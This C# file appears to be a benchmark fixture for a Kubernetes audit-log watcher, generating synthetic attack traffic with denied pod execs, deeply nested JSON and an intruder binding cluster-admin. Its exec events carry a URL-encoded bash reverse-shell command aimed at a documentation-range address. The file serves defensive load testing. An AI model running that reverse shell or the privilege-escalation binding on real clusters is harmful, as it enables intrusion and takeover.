using System.Globalization;
using System.Text;

namespace AuditWatch.Benchmarks;

/// <summary>
/// What the API server of a cluster under attack records: 500 honest events a second of <see cref="Traffic"/>, in which somebody whom nobody has seen does every second what has to be told, beside requests of users without
/// any rights. All come in the same lists, ten a second, as an API server sends them.
/// </summary>
internal sealed class AttackedCluster
{
    /// <summary>Lists a second.</summary>
    public const int ListsPerSecond = 10;

    /// <summary>Honest events in a list.</summary>
    public const int Honest = 50;

    /// <summary>Denied or dropped requests of users without rights in a list.</summary>
    public const int Hostile = Nested + Long + ShellsOfOne + ShellsOfMany;

    private const int Nested = 1;
    private const int Long = 20;
    private const int ShellsOfOne = 20;
    private const int ShellsOfMany = 5;
    private const int Many = 5_000;

    private static readonly string Deep = $"{string.Concat(Enumerable.Repeat("{\"a\":", 700))}1{new string('}', 700)}";
    private static readonly string Odd = new('語', 512);
    private static readonly string Shell = Uri.EscapeDataString("bash -i >& /dev/tcp/203.0.113.9/443 0>&1");

    private readonly Traffic _traffic = new(seed: 1);
    private int _hostile;
    private int _many;

    /// <summary>What users without rights do, a second.</summary>
    public static string Description { get; } = string.Create(
        CultureInfo.InvariantCulture,
        $"fields 700 deep {Nested * ListsPerSecond}/s, denied execs of 512 characters beyond ASCII {Long * ListsPerSecond}/s by 10 users, denied reverse shells {ShellsOfOne * ListsPerSecond}/s by one user and {ShellsOfMany * ListsPerSecond}/s by {Many:N0}");

    /// <summary>The actor whose deed in this list has to be told; null if there is none in it: there is one a second, alternately an exec and a binding of cluster-admin.</summary>
    public static string? Intruder(long list) => list % ListsPerSecond == 0 ? string.Create(CultureInfo.InvariantCulture, $"intruder-{list}-{Environment.ProcessId}") : null;

    /// <summary>The next list, of this moment. The hostile events come first. Not for several threads at once.</summary>
    /// <param name="list">Its number.</param>
    /// <param name="isAttacked">Whether it has any.</param>
    public string Next(long list, bool isAttacked)
    {
        _traffic.Now = TimeProvider.System.GetUtcNow();
        var text = new StringBuilder(300_000);
        text.Append("""{"kind":"EventList","apiVersion":"audit.k8s.io/v1","metadata":{},"items":[""");
        if (isAttacked)
        {
            AppendHostile(text);
        }

        if (Intruder(list) is { } intruder)
        {
            text.Append(list / ListsPerSecond % 2 == 0 ? Event(intruder, "get", "pods", "exec", intruder, 101, "?command=id") : Bound(intruder)).Append(',');
        }

        for (var i = Intruder(list) is null ? 0 : 1; i < Honest; i++)
        {
            _traffic.AppendTo(text);
            text[^1] = ',';
        }

        text[^1] = ']';
        return text.Append("}\n").ToString();
    }

    private void AppendHostile(StringBuilder text)
    {
        for (var i = 0; i < Nested; i++)
        {
            text.Append(Event("mallory", "patch", "configmaps", "", $"deep-{_hostile++}", 200, "", Deep)).Append(',');
        }

        for (var i = 0; i < Long; i++)
        {
            text.Append(Event($"nobody-{i % 10}", "create", "pods", "exec", $"{Odd}{_hostile++}", 403, "?command=" + Odd)).Append(',');
        }

        for (var i = 0; i < ShellsOfOne; i++)
        {
            text.Append(Event("mallory", "create", "pods", "exec", $"one-{_hostile++}", 403, "?command=" + Shell)).Append(',');
        }

        for (var i = 0; i < ShellsOfMany; i++)
        {
            text.Append(Event($"many-{_many++ % Many}", "create", "pods", "exec", $"many-{_hostile++}", 403, "?command=" + Shell)).Append(',');
        }
    }

    /// <summary>A denied exec, for whatever sends by the piece.</summary>
    public static string DeniedExec(string actor, string pod) => Event(actor, "create", "pods", "exec", pod, 403, "?command=id");

    private static string Bound(string actor) => Event(
        actor, "create", "clusterrolebindings", "", actor, 201, "",
        $$$"""{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"{{{actor}}}"},"roleRef":{"kind":"ClusterRole","name":"cluster-admin","apiGroup":"rbac.authorization.k8s.io"},"subjects":[{"kind":"User","name":"friend-of-{{{actor}}}"}]}""",
        "rbac.authorization.k8s.io");

    private static string Event(string actor, string verb, string resource, string subresource, string name, int code, string query, string body = "null", string group = "")
    {
        var time = TimeProvider.System.GetUtcNow().ToString("yyyy-MM-dd'T'HH:mm:ss.ffffff'Z'", CultureInfo.InvariantCulture);
        var path = group.Length == 0 ? $"/api/v1/namespaces/payments/{resource}/{name}{(subresource.Length == 0 ? "" : "/" + subresource)}{query}" : $"/apis/{group}/v1/{resource}";
        return $$$"""{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"{{{Guid.NewGuid()}}}","stage":"ResponseComplete","requestURI":"{{{path}}}","verb":"{{{verb}}}","user":{"username":"{{{actor}}}","groups":["system:authenticated"]},"sourceIPs":["{{{Address(actor)}}}"],"userAgent":"kubectl/v1.34.1","objectRef":{"resource":"{{{resource}}}","namespace":"{{{(group.Length == 0 ? "payments" : "")}}}","name":"{{{name}}}","apiGroup":"{{{group}}}","apiVersion":"v1","subresource":"{{{subresource}}}"},"responseStatus":{"code":{{{code}}}},"requestObject":{{{body}}},"requestReceivedTimestamp":"{{{time}}}","stageTimestamp":"{{{time}}}","annotations":{"authorization.k8s.io/decision":"{{{(code == 403 ? "forbid" : "allow")}}}","authorization.k8s.io/reason":""}}""";
    }

    private static string Address(string actor)
    {
        var hash = (uint)string.GetHashCode(actor, StringComparison.Ordinal);
        return string.Create(CultureInfo.InvariantCulture, $"10.{hash >> 24}.{(hash >> 16) & 255}.{(hash >> 8) & 255}");
    }
}
